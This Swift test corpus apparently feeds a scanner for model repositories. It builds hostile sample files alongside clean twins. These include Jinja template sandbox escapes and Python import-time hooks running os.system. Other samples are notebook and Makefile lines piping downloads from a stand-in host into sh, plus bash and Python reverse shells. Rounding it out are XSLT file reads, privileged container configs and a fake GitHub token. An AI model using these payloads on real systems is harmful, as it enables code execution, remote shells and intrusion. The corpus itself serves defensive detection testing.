import Bytes
import Findings
import TestSupport

// Hostile files: what lies beside a model and is run, shown or read with it.
extension Corpus {
  static let companions: [HostileFile] = escapes + handlers + commands + shown + leaks + servers

  private static func text(
    _ name: String, _ rule: Rule, _ file: String, _ text: String, clean: String? = nil
  ) -> HostileFile {
    let twin: (@Sendable () -> [UInt8])?
    if let clean { twin = { Array(clean.utf8) } } else { twin = nil }
    return HostileFile(
      name, rule, rule.severity, in: file, isHygiene: rule.severity < .high,
      bytes: { Array(text.utf8) }, clean: twin)
  }

  /// A template in a configuration, where no name is needed to tell it.
  private static func template(
    _ name: String, _ body: String, _ rule: Rule = .templateEscape, clean: String? = nil
  ) -> HostileFile {
    func json(_ body: String) -> String {
      JSON.object([JSON.Member("chat_template", .string(body))]).text()
    }
    return text(
      "a template: \(name)", rule, "tokenizer_config.json", json(body), clean: clean.map(json))
  }

  private static let escapes: [HostileFile] = [
    template("lipsum's globals", "{{ lipsum.__globals__['os'].popen('id').read() }}"),
    template("its own context", "{{ self.__init__.__globals__ }}"),
    template("the request's application", "{{ request['application'] }}"),
    template("a name from numbers", "{{ x['%c%cclass%c%c' | format(95, 95, 95, 95)] }}"),
    template("underscores multiplied", "{{ x['_' * 2 ~ 'class' ~ '_' * 2] }}"),
    template("attr on a variable", "{% set f = 'format' %}{{ x | attr(f) }}"),
    template("a macro's globals", "{% macro m() %}{% endmacro %}{{ m.__globals__ }}"),
    template("map over an attribute", "{{ [x] | map(attribute='__class__') | list }}"),
    template("an escape of eight digits", #"{{ x['\U0000005f_class__'] }}"#),
    template("an octal escape", #"{{ x['\137_class__'] }}"#),
    template("a file included", "{% include '/etc/passwd' %}{{ messages }}", .templateLoad),
    template(
      "a loop that never ends", "{% for i in range(999999999) %}{{ i }}{% endfor %}",
      .templateLoad, clean: "{% for i in range(3) %}{{ i }}{% endfor %}"),
    text(
      "one of several templates", .templateEscape, "tokenizer_config.json",
      #"{"chat_template": [{"name": "a", "template": "{{ x }}"}, "#
        + #"{"name": "b", "template": "{{ x.__class__ }}"}]}"#,
      clean: #"{"chat_template": [{"name": "a", "template": "{{ x }}"}]}"#),
  ]

  private static let handlers: [HostileFile] = [
    text(
      "a handler that runs a program", .startupHook, "handler.py",
      "import subprocess\n\ndef handle(data, context):\n  return subprocess.run(data)\n",
      clean: nil),
    text(
      "Triton's model that runs a program", .startupHook, "model.py",
      "import os\n\nclass TritonPythonModel:\n  def execute(self, requests):\n"
        + "    os.system('id')\n"),
    text(
      "a package that runs a program", .pythonAtLoad, "__init__.py",
      "import subprocess\nsubprocess.Popen(['id'])\n"),
    text("a file that Python starts with", .startupHook, "sitecustomize.py", "x = 1\n"),
    text("a path file that imports", .startupHook, "a.pth", "import os; os.system('id')\n"),
    text(
      "a path file with Windows' line ends", .startupHook, "b.pth", "x\r\nimport os\r\n"),
    text(
      "a set-up that runs a program", .pythonAtLoad, "setup.py",
      "import os\nfrom setuptools import setup\nos.system('id')\nsetup(name='a')\n"),
    text(
      "a class that runs while it is made", .pythonAtLoad, "net.py",
      "import os\n\nclass Net:\n  x = os.popen('id').read()\n"),
    text(
      "a decorator that runs", .pythonAtLoad, "deco.py",
      "import os\n\n@os.system\ndef f():\n  pass\n"),
    text(
      "a class made by what it is given", .pythonAtLoad, "meta.py",
      "class Net(metaclass=__import__('os').system):\n  pass\n"),
    text(
      "a default that runs", .pythonAtLoad, "default.py",
      "import os\n\ndef f(x=os.system('id')):\n  pass\n"),
  ]

  private static let commands: [HostileFile] = [
    text(
      "a notebook with a shell", .shellPayload, "a.ipynb",
      #"{"cells": [{"cell_type": "code", "source": ["%%bash\n", "curl http://x.y/a | sh\n"]}], "#
        + #""nbformat": 4, "nbformat_minor": 5, "metadata": {}}"#),
    text(
      "a notebook with a command", .shellPayload, "b.ipynb",
      #"{"cells": [{"cell_type": "code", "source": ["!wget -qO- http://x.y/a | bash\n"]}], "#
        + #""nbformat": 4, "nbformat_minor": 5, "metadata": {}}"#),
    text(
      "a command below Python, with Windows' line ends", .shellPayload, "d.ipynb",
      #"{"cells": [{"cell_type": "code", "source": ["x = 1\r\n!wget -qO- http://x.y/a | bash"]}], "#
        + #""nbformat": 4, "nbformat_minor": 5, "metadata": {}}"#),
    text(
      "PowerShell that is encoded", .shellPayload, "a.ps1",
      "powershell -NoP -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA\n"),
    text(
      "a Makefile that runs a download", .shellPayload, "Makefile",
      "all:\n\tcurl -s http://x.y/i | sh\n", clean: "all:\n\techo done\n"),
    text(
      "a connection of the shell", .shellPayload, "c.sh",
      "#!/bin/bash\nexec 5<>/dev/tcp/10.0.0.1/443\n"),
  ]

  private static let shown: [HostileFile] = [
    text(
      "a page with a script", .activeDocument, "card.html",
      "<html><body><script>fetch('/a')</script></body></html>",
      clean: "<html><body><p>A model.</p></body></html>"),
    text(
      "a PDF that runs a script", .activeDocument, "a.pdf",
      "%PDF-1.7\n1 0 obj\n<< /OpenAction << /S /JavaScript /J#53 (a) >> >>\nendobj\n%%EOF\n"),
    HostileFile(
      "a shortcut", .activeDocument, .high, in: "a.lnk",
      bytes: { [0x4c, 0, 0, 0, 1, 0x14, 2, 0] + [UInt8](repeating: 0, count: 68) }),
  ]

  private static func compose(_ lines: String) -> String {
    "services:\n  a:\n    image: x.y/a@sha256:\(String(repeating: "0", count: 64))\n\(lines)"
  }

  private static func transformation(_ select: String) -> String {
    "<xsl:stylesheet version=\"1.0\" xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\">"
      + "<xsl:template match=\"/\"><xsl:value-of select=\"\(select)\"/></xsl:template>"
      + "</xsl:stylesheet>\n"
  }

  private static func triton(_ lines: String) -> String {
    "name: \"m\"\nmax_batch_size: 8\n\(lines)"
  }

  private static let servers: [HostileFile] = [
    text(
      "a container with all rights", .hostRights, "docker-compose.yml",
      compose("    privileged: true\n"), clean: compose("    privileged: false\n")),
    text(
      "a container with its host's socket", .hostRights, "compose.yaml",
      compose("    volumes: [\"/var/run/docker.sock:/var/run/docker.sock\"]\n"),
      clean: compose(
        "    volumes: [\"./models:/models:ro\", \"/etc/localtime:/etc/localtime:ro\"]\n")),
    text(
      "a container with its host's files", .hostRights, "compose.yml",
      compose("    volumes:\n      - {type: bind, source: /, target: /host}\n"),
      clean: compose("    volumes:\n      - {type: bind, source: ./a, target: /a}\n")),
    text(
      "a pod with its host's files", .hostRights, "pod.yaml",
      "kind: Pod\nspec:\n  containers:\n  - {name: a, image: x}\n"
        + "  volumes:\n  - {name: h, hostPath: {path: /etc}}\n",
      clean: "kind: Pod\nspec:\n  containers:\n  - {name: a, image: x}\n"
        + "  volumes:\n  - {name: h, emptyDir: {}}\n"),
    text(
      "a pod with all rights", .hostRights, "pod.yml",
      "kind: Pod\nspec:\n  containers:\n  - name: a\n    securityContext: {privileged: true}\n"),
    text(
      "a transformation that reads a file", .activeDocument, "a.xsl",
      transformation("document('/etc/passwd')"), clean: transformation("document('')/*")),
    text(
      "a transformation that calls PHP", .activeDocument, "b.xslt",
      transformation("php:function('system', 'id')"), clean: transformation("title")),
    text(
      "Triton with a model in Python", .repositoryCode, "config.pbtxt",
      triton("backend: \"pyth\" 'on'\n"), clean: triton("backend: \"onnxruntime\"\n")),
    text(
      "Triton with an environment of its own", .repositoryCode, "config.pbtxt",
      triton(
        "parameters: { key: \"EXECUTION_ENV_PATH\", value: { string_value: \"/tmp/e.tgz\" } }\n"),
      clean: triton("parameters: { key: \"mode\", value: { string_value: \"fast\" } }\n")),
    text(
      "an operation of two texts in a row", .tensorFlowFiles, "graph.pbtxt",
      "node {\n  name: \"a\"\n  op: \"Read\"\n    'File'\n}\n",
      clean: "node {\n  name: \"a\"\n  op: \"Re\" \"lu\"\n}\n"),
    text(
      "a shell for a connection in prose", .shellInText, "notes.txt",
      "To look around:\n\n    bash -i >& /dev/tcp/10.0.0.1/443 0>&1\n",
      clean: "Install it:\n\n```bash\ncurl -fsSL https://x.y/install.sh | sh\n```\n"),
    text(
      "a shell by Python's sockets in prose", .shellInText, "notes.md",
      "Run\npython3 -c 'import socket,os,pty;s=socket.socket();os.dup2(s.fileno(),0);"
        + "pty.spawn(\"sh\")'\n",
      clean: "Servers listen on a socket; the shell is bash.\n"),
  ]

  /// A token of GitHub's form with its checksum, in parts.
  private static let token = "ghp_" + "a8Kd02LmNq73ZtYx91RbVc64WsPe581rmQzG"

  private static let leaks: [HostileFile] = [
    HostileFile(
      "a token in a pickle", .serviceToken, .high, in: "a.pkl",
      bytes: { PickleBuilder().dict().text("t").text(token).setItem().stop() },
      clean: {
        PickleBuilder().dict().text("t").text("a plain text of many words").setItem().stop()
      }
    ),
    HostileFile(
      "a token in ONNX's metadata", .serviceToken, .high, in: "a.onnx",
      bytes: {
        var model = ONNXBuilder()
        model.metadata = [("upload", "used \(token) for it")]
        return model.bytes
      }),
    text(
      "a token in YAML", .serviceToken, "a.yaml", "upload:\n  token: \(token)\n"),
    text(
      "a token in a notebook", .serviceToken, "c.ipynb",
      #"{"cells": [{"cell_type": "code", "source": ["login('"# + token + #"')"]}], "#
        + #""nbformat": 4, "nbformat_minor": 5, "metadata": {}}"#),
  ]
}
